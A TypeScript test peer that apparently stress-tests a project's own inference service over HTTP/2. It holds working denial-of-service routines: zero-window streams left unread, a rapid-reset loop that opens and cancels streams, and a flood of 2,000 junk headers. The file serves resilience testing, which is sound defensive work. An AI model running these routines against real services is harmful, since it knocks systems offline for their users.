import { connect, constants, type ClientHttp2Session } from "node:http2";
import { constants as osConstants, setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import { InferenceService } from "@ameide/proto/ameide/inference/v1/inference_service_pb.js";
import { servePeer } from "../harness/serve-peer.ts";
import { watchEnvelope } from "./watch-envelope.ts";

/** Somebody who is signed in and means harm. */

interface Attack {
  address: string;
  token: string;
  /** A run with many frames. */
  runId: string;
  seconds: number;
}

const RESETS_PER_TURN = 20;
const TURN_MILLISECONDS = 10;
const UNREAD_STREAMS = 200;
const FLOOD_HEADERS = 2000;

async function attack(given: Attack): Promise<{ resets: number; floods: number }> {
  const unread = openUnread(given);
  const end = performance.now() + given.seconds * 1000;
  const [resets, floods] = await Promise.all([reset(given, end), floodHeaders(given, end)]);
  unread.destroy();
  return { resets, floods };
}

/** Streams that may send nothing, as their windows are shut. */
function openUnread({ address, token, runId }: Attack): ClientHttp2Session {
  const session = sessionTo(address, 0);
  for (let opened = 0; opened < UNREAD_STREAMS; opened++) requestOf(session, token).end(watchEnvelope(runId));
  return session;
}

/** A connection that is closed by the server is opened anew. */
async function reset({ address, token }: Attack, end: number): Promise<number> {
  let resets = 0;
  for (let session = sessionTo(address); performance.now() < end; await sleep(TURN_MILLISECONDS)) {
    if (session.destroyed || session.closed) session = sessionTo(address);
    for (let i = 0; i < RESETS_PER_TURN && !session.destroyed && !session.closed; i++, resets++)
      requestOf(session, token).close(constants.NGHTTP2_CANCEL);
  }
  return resets;
}

async function floodHeaders({ address, token }: Attack, end: number): Promise<number> {
  const many = Object.fromEntries(
    Array.from({ length: FLOOD_HEADERS }, (_, i) => [`x-${i}`, "y".repeat(20)]),
  );
  let floods = 0;
  for (; performance.now() < end; floods++, await sleep(TURN_MILLISECONDS)) {
    const session = sessionTo(address);
    requestOf(session, token, many).end();
    setTimeout(() => session.destroy(), TURN_MILLISECONDS * 10);
  }
  return floods;
}

function sessionTo(address: string, initialWindowSize = 65_535): ClientHttp2Session {
  const settings = { initialWindowSize };
  return connect(address, { settings, maxSendHeaderBlockLength: 1 << 20 }).on("error", () => undefined);
}

function requestOf(session: ClientHttp2Session, token: string, more: Record<string, string> = {}) {
  const stream = session.request({
    [constants.HTTP2_HEADER_METHOD]: "POST",
    [constants.HTTP2_HEADER_PATH]: `/${InferenceService.typeName}/WatchRun`,
    "content-type": "application/connect+proto",
    authorization: `Bearer ${token}`,
    ...more,
  });
  return stream.on("error", () => undefined);
}

// A real attacker computes on machines of its own: this one takes what the server leaves.
setPriority(osConstants.priority.PRIORITY_LOW);
servePeer({ attack });
